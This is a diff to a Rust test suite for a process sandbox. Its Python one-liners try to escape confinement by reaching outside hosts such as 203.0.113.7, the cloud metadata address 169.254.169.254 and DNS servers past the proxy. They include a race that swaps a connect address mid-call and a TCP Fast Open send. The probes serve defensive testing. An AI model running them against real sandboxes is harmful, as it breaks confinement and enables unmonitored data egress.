@@ -1,6 +1,8 @@
 //! Whoever could be reached over a socket.
 
-use orch_sandbox::sandbox::Layer::{Calls, Hosts, Landlock, Network, Privileges, User, View};
+use orch_sandbox::sandbox::Layer::{
+    Calls, Connections, Hosts, Landlock, Network, Privileges, User, View,
+};
 
 use super::attempt::{Attempt, ask, attempt, socket, talk};
 
@@ -95,6 +97,14 @@ print(\"ESCAPED\" if \"{abstract}\" in open(\"/proc/self/net/unix\").read() else
     )
     .stopped(&[Network], &[Landlock, Calls]),
     attempt(
+        "sends to a socket of the machine from one of a pair",
+        "/usr/bin/python3 -c 'import socket
+a,b=socket.socketpair(socket.AF_UNIX,socket.SOCK_DGRAM)
+a.connect(\"{outside}/log.sock\");a.send(b\"x\")
+print(\"ESCAPED\")'",
+    )
+    .stopped(&[User, View], &[Calls]),
+    attempt(
         "listens at a port of the machine",
         "/usr/bin/python3 -c 'import socket
 s=socket.socket();s.bind((\"203.0.113.7\",8080));s.listen()
@@ -111,7 +121,7 @@ pub const EGRESS: &[Attempt] = &[
         "SOCK_STREAM",
         "(\"127.0.0.1\",{tcp})"
     )
-    .stopped(&[Network], &[Landlock]),
+    .stopped(&[Network], &[Landlock, Connections]),
     ask!(
         "asks the proxy for the control plane",
         "CONNECT 127.0.0.1:{tcp} HTTP/1.1",
@@ -125,14 +135,14 @@ pub const EGRESS: &[Attempt] = &[
         "SOCK_STREAM",
         "(\"169.254.169.254\",80)"
     )
-    .stopped(&[Network], &[Landlock]),
+    .stopped(&[Network], &[Landlock, Connections]),
     talk!(
         "passes the proxy by for names",
         "AF_INET",
         "SOCK_DGRAM",
         "(\"203.0.113.53\",53)"
     )
-    .stopped(&[Network], &[Calls]),
+    .stopped(&[Network], &[Calls, Connections]),
     attempt(
         "reaches another machine at the proxy's port",
         "/usr/bin/python3 -c 'import errno,os,socket
@@ -141,8 +151,47 @@ s=socket.socket();s.settimeout(2)
 e=s.connect_ex((\"203.0.113.7\",int(p.rsplit(\":\",1)[1])))
 print(\"ESCAPED\" if e in (0,errno.ECONNREFUSED) else e)'",
     )
-    .stopped(&[Network], &[])
-    .open_in_landlock("it bounds ports, not addresses"),
+    .stopped(&[Network], &[Connections]),
+    attempt(
+        "changes the address while it is looked at",
+        "/usr/bin/python3 -c 'import ctypes,os,socket,struct,threading
+p=os.environ.get(\"http_proxy\",\"http://x:{tcp}\")
+good=struct.pack(\"=H\",2)+struct.pack(\">H4s8x\",int(p.rsplit(\":\",1)[1]),socket.inet_aton(\"127.0.0.1\"))
+evil=struct.pack(\"=H\",2)+struct.pack(\">H4s8x\",443,socket.inet_aton(\"203.0.113.7\"))
+at=ctypes.create_string_buffer(good,16)
+c=ctypes.CDLL(None)
+going=True
+def change():
+  while going:
+    ctypes.memmove(at,evil,16)
+    ctypes.memmove(at,good,16)
+threading.Thread(target=change,daemon=True).start()
+out=False
+for i in range(200):
+  s=socket.socket()
+  if c.connect(s.fileno(),at,16)==0:
+    try: out=out or s.getpeername()[0]==\"203.0.113.7\"
+    except OSError: pass
+  s.close()
+going=False
+print(\"ESCAPED\" if out else 0)'",
+    )
+    .stopped(&[Network], &[Landlock, Connections]),
+    attempt(
+        "sends along with the opening packet",
+        "/usr/bin/python3 -c 'import socket
+s=socket.socket()
+s.sendto(b\"x\",socket.MSG_FASTOPEN,(\"203.0.113.7\",443));s.settimeout(2)
+print(\"ESCAPED\" if b\"{treasure}\" in s.recv(99) else 0)'",
+    )
+    .stopped(&[Network], &[Calls]),
+    attempt(
+        "listens at a port that it does not choose",
+        "/usr/bin/python3 -c 'import socket
+s=socket.socket();s.listen();s.settimeout(5)
+print(\"ESCAPED\" if b\"{treasure}\" in s.accept()[0].recv(99) else 0)'",
+    )
+    .stopped(&[Network], &[Calls]),
     attempt(
         "sends a datagram to another machine",
         "/usr/bin/python3 -c 'import socket
